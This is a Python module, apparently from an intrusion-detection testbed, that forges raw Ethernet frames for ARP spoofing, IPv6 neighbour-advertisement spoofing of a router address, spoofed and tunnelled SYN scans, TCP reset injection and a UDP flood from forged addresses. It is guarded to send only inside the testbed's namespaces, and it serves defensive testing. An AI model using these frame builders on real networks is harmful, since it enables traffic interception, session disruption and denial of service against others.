"""Frames that no tool at hand makes, sent from a host of the home: `python -m testbed.forge KIND ADDRESS ...`.

Sends nothing outside the namespaces that the testbed made. The last line says how many frames were sent in how long.
"""

import os
import signal
import socket
import struct
import sys
import time
from collections.abc import Iterable, Iterator
from ipaddress import ip_address
from pathlib import Path
from random import Random

ALL = b"\xff" * 6
GAP_S = 0.002
GAPS_S = {"between": 0.0001, "flood": 1 / 6000}  # of the kinds that have another
BURST_S = 0.002  # what is due within it goes at once
FLOODED = 150_000  # flows: at most 25 s
BEGUN = "begun"  # what is written when it goes on
ELSEWHERE = bytes.fromhex("020000000001")  # a MAC address that no host has, so that none answers
SYN, RST, ACK = 2, 4, 16
# the ports of `testbed.talk`; each kind has its own
SESSIONS = {"resets": range(41_000, 41_010), "late-resets": range(41_100, 41_110)}
TALK_PORT = 7000


def arp(mac: bytes, inside: bytes, sender: str, target: str, operation: int = 2) -> bytes:
    """An ARP frame from `mac` whose sender inside is `inside`, to everybody."""
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + inside + ip_address(sender).packed
    return ALL + mac + b"\x08\x06" + body + bytes(6) + ip_address(target).packed


def arp_group(mac: bytes, victim: str, target: str) -> Iterator[bytes]:
    """A reply with a group address as sender, which Linux takes."""
    yield arp(mac, bytes.fromhex("01005e000001"), victim, target)


def arp_other(mac: bytes, victim: str, target: str) -> Iterator[bytes]:
    """A reply with a third device's MAC address inside."""
    yield arp(mac, bytes.fromhex("020000000033"), victim, target)


def arp_crowd(mac: bytes, victim: str, target: str) -> Iterator[bytes]:
    """1,100 invented senders, then the attack they are to hide."""
    for n in range(1100):
        made = b"\x02\x00\x00\x00" + struct.pack("!H", n)
        yield arp(made, made, f"10.77.{n >> 8}.{n & 255}", target, 1)
    yield arp(mac, mac, victim, target)


def arp_asking(mac: bytes, victim: str, target: str) -> Iterator[bytes]:
    """Sixty replies, each after asking oneself."""
    for _ in range(60):
        yield arp(mac, mac, "0.0.0.0", victim, 1)
        yield arp(mac, mac, victim, target)


def neighbour(mac: bytes, victim: str, target: str) -> Iterator[bytes]:
    """Ten advertisements of a router's IPv6 address that nobody asked for."""
    source, to = ip_address("fe80::1").packed, ip_address("ff02::1").packed
    body = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + source + b"\x02\x01" + mac
    body = body[:2] + checksum(source + to + struct.pack("!II", len(body), 58) + body) + body[4:]
    head = struct.pack("!IHBB", 6 << 28, len(body), 58, 255)
    for _ in range(10):
        yield b"\x33\x33\x00\x00\x00\x01" + mac + b"\x86\xdd" + head + source + to + body


def checksum(data: bytes) -> bytes:
    """The internet checksum (RFC 1071)."""
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return struct.pack("!H", ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF)


def tcp(source: str, port: int, target: str, target_port: int, flags: int, ttl: int = 64) -> bytes:
    """An IP packet with a TCP segment and nothing in it."""
    src, dst = ip_address(source).packed, ip_address(target).packed
    segment = struct.pack("!HHIIBBHHH", port, target_port, 7, 7 if flags & ACK else 0, 0x50, flags, 1024, 0, 0)
    segment = segment[:16] + checksum(src + dst + struct.pack("!II", 20, 6) + segment) + segment[18:]
    if len(src) == 16:
        return struct.pack("!IHBB", 6 << 28, 20, 6, ttl) + src + dst + segment
    head = struct.pack("!BBHHHBBH", 0x45, 0, 40, 1, 0, ttl, 6, 0) + src + dst
    return head[:10] + checksum(head) + head[12:] + segment


def frame(packet: bytes, mac: bytes, to: bytes = ELSEWHERE) -> bytes:
    """An Ethernet frame."""
    return to + mac + (b"\x08\x00" if packet[0] >> 4 == 4 else b"\x86\xdd") + packet


def answers(mac: bytes, source: str, target: str) -> Iterator[bytes]:
    """120 knocks, each answered by a SYN-ACK in the target's name."""
    for port in range(1, 121):
        yield frame(tcp(source, 40_000, target, port, SYN), mac)
        yield frame(tcp(target, port, source, 40_000, SYN | ACK), mac, mac)


def between(mac: bytes, source: str, target: str) -> Iterator[bytes]:
    """80 knocks, 512 from forged addresses before each."""
    chance = Random(1)
    for port in range(1, 81):
        for _ in range(512):
            forged = str(ip_address(0x0A00_0000 + chance.getrandbits(24)))
            yield frame(tcp(forged, 40_000, target, 80, SYN), mac)
        yield frame(tcp(source, 40_000, target, port, SYN), mac)


def addresses6(mac: bytes, source: str, target: str) -> Iterator[bytes]:
    """1,000 ports, each from another address of one IPv6 network."""
    for port in range(1, 1001):
        yield frame(tcp(f"2001:db8:0:aa::{port:x}", 40_000, "2001:db8:0:bb::1", port, SYN), mac)


def gre(mac: bytes, source: str, target: str) -> Iterator[bytes]:
    """200 knocks inside a tunnel."""
    head = struct.pack("!BBHHHBBH", 0x45, 0, 64, 1, 0, 64, 47, 0) + bytes([10, 1, 1, 1, 10, 1, 1, 2])
    head = head[:10] + checksum(head) + head[12:] + struct.pack("!HH", 0, 0x0800)
    for port in range(1, 201):
        yield frame(head + tcp(source, 40_000, target, port, SYN), mac)


def resets(mac: bytes, server: str, client: str) -> Iterator[bytes]:
    """RSTs into the sessions of `testbed.talk` that no host accepts, by their checksum or their VLAN."""
    for _ in range(20):
        for port in SESSIONS["resets"]:
            packet = tcp(server, TALK_PORT, client, port, RST | ACK, ttl=1)
            yield frame(packet[:36] + b"\xbe\xef" + packet[38:], mac)
            whole = frame(packet, mac)
            yield whole[:12] + b"\x81\x00\x00\x07" + whole[12:]


def late_resets(mac: bytes, server: str, client: str) -> Iterator[bytes]:
    """RSTs into the sessions of `testbed.talk` that no host accepts, by their sequence number."""
    for _ in range(20):
        for port in SESSIONS["late-resets"]:
            yield frame(tcp(server, TALK_PORT, client, port, RST | ACK, ttl=1), mac)


def flood(mac: bytes, source: str, target: str) -> Iterator[bytes]:
    """UDP from forged addresses to one port of the target after the other, to its own MAC address: a flow each."""
    chance, to, dst = Random(2), mac_of(target), ip_address(target).packed
    for n in range(FLOODED):
        head = struct.pack("!BBHHHBBH", 0x45, 0, 28, 1, 0, 64, 17, 0) + chance.randbytes(4) + dst
        datagram = struct.pack("!HHHH", 1024 + n % 60_000, 1 + n % 65_535, 8, 0)
        yield frame(head[:10] + checksum(head) + head[12:] + datagram, mac, to)


def damaged(mac: bytes, source: str, target: str) -> Iterator[bytes]:
    """1,500 frames of all kinds with bytes changed and cut off."""
    chance = Random(3)
    built = [
        frame(tcp(source, 1, target, 1, SYN), mac),
        frame(tcp("fe80::2", 1, "fe80::3", 1, SYN), mac),
        next(arp_other(mac, target, source)),
        next(gre(mac, source, target)),
        next(neighbour(mac, source, target)),
    ]
    for _ in range(1500):
        broken = bytearray(chance.choice(built))
        for _ in range(chance.randrange(1, 8)):
            broken[chance.randrange(12, len(broken))] = chance.randrange(256)
        yield bytes(broken[: chance.randrange(15, len(broken) + 1)])


def mac_of(address: str, seconds: float = 10) -> bytes:
    """The MAC address of a host of the home, by asking for it.

    Raises:
        TimeoutError: it does not answer.
    """
    end = time.monotonic() + seconds
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        while time.monotonic() < end:
            asking.sendto(b"", (address, 9))
            for line in Path("/proc/net/arp").read_text().splitlines()[1:]:
                words = line.split()
                if words[0] == address and words[2] != "0x0":
                    return bytes.fromhex(words[3].replace(":", ""))
            time.sleep(0.05)
    raise TimeoutError(f"expected {address} to answer, found that it does not")


KINDS = {
    "arp-group": arp_group, "arp-other": arp_other, "arp-crowd": arp_crowd, "arp-asking": arp_asking,
    "neighbour": neighbour, "answers": answers, "between": between, "addresses6": addresses6, "gre": gre,
    "resets": resets, "late-resets": late_resets, "flood": flood, "damaged": damaged,
}  # fmt: skip


def main(kind: str, victim: str, target: str) -> int:
    """Send the frames of one kind from eth0, as if `victim` spoke to `target`."""
    if "TLIDS_TESTBED_OUTSIDE" not in os.environ:
        print("forge: expected the testbed's namespaces, found none: nothing was sent", file=sys.stderr)
        return 2
    mac = bytes.fromhex(Path("/sys/class/net/eth0/address").read_text().strip().replace(":", ""))
    frames = KINDS[kind](mac, victim, target)
    sent, seconds = send(list(frames) if kind == "flood" else frames, GAPS_S.get(kind, GAP_S))
    print(f"sent {sent} frames in {seconds:.2f} s", flush=True)
    return 0


def send(frames: Iterable[bytes], gap_s: float) -> tuple[int, float]:
    """Send frames from eth0, on average a gap apart, until SIGTERM; how many were sent, and in how many seconds.

    Who is late catches up: a machine that is busy changes the rate for a moment, not on the whole.
    """
    ended: list[int] = []
    signal.signal(signal.SIGTERM, lambda number, _: ended.append(number))
    sent, began = 0, time.monotonic()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind(("eth0", 0))
        print(BEGUN, flush=True)
        for made in frames:
            ahead = began + sent * gap_s - time.monotonic()
            if ahead > BURST_S:
                time.sleep(ahead)
            wire.send(made)
            sent += 1
            if ended:
                break
    return sent, time.monotonic() - began


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:4]))
